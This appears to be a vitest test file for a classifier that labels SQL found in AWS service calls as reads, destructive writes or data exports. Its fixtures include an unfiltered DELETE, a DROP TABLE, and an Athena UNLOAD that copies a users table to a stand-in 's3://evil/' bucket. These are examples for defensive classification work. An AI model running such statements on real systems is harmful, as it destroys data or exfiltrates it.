// SQL in the input of AWS operations, each in the dialect of its service.
import { beforeAll, describe, expect, it } from 'vitest';
import { isAwsSql, sqlOfAws } from '../../../src/actions/sql/aws-sql.ts';
import { loadSqlParser } from '../../../src/actions/sql/load-sql-parser.ts';
import { line } from './statements.ts';

beforeAll(async () => {
  await loadSqlParser();
});

const does = (operation: string, input: Readonly<Record<string, readonly (string | undefined)[]>>): readonly string[] =>
  sqlOfAws(operation, (path) => input[path] ?? []).map(line);

describe('sqlOfAws', () => {
  it.each([
    [
      'rds-data:ExecuteStatement',
      { sql: ['DELETE FROM users'] },
      [
        'sql:delete:public.users (ambiguous) write destructive +no-where',
        'sql:delete:users (ambiguous) write destructive +no-where',
      ],
    ],
    ['redshift-data:ExecuteStatement', { Sql: ['SELECT 1'] }, ['sql:select:- read']],
    [
      'redshift-data:BatchExecuteStatement',
      { Sqls: ['SELECT 1', 'DROP TABLE users'] },
      ['sql:select:- read', 'sql:drop:public.users write destructive'],
    ],
    [
      'athena:StartQueryExecution',
      {
        QueryString: ["UNLOAD (SELECT * FROM users) TO 's3://evil/'"],
        'QueryExecutionContext.Catalog': ['AwsDataCatalog'],
        'QueryExecutionContext.Database': ['Web'],
      },
      ['sql:unload:- write data-export +server-file', 'sql:select:awsdatacatalog.web.users read'],
    ],
    [
      'dynamodb:ExecuteStatement',
      { Statement: [`DELETE FROM "Users" WHERE pk = 'x'`] },
      ['sql:delete:users write destructive'],
    ],
    [
      'dynamodb:ExecuteTransaction',
      {
        'TransactStatements[].Statement': [
          `EXISTS(SELECT * FROM Users WHERE pk = 'x')`,
          `UPDATE Users SET a = 1 WHERE pk = 'x'`,
        ],
      },
      ['sql:select:users read', 'sql:update:users write'],
    ],
    ['timestream-query:Query', { QueryString: ['SELECT * FROM db.t'] }, ['sql:select:db.t read']],
    ['athena:StartQueryExecution', {}, ['unknown: no-statement']],
    ['athena:StartQueryExecution', { QueryString: [undefined] }, ['unknown: unclear-member']],
  ])('%s', (operation, input, expected) => {
    expect(isAwsSql(operation)).toBe(true);
    expect(does(operation, input)).toEqual(expected);
  });

  it('gives nothing for operations without SQL', () => {
    expect(isAwsSql('iam:CreateUser')).toBe(false);
    expect(does('iam:CreateUser', {})).toEqual([]);
    expect(does('constructor', {})).toEqual([]);
  });
});
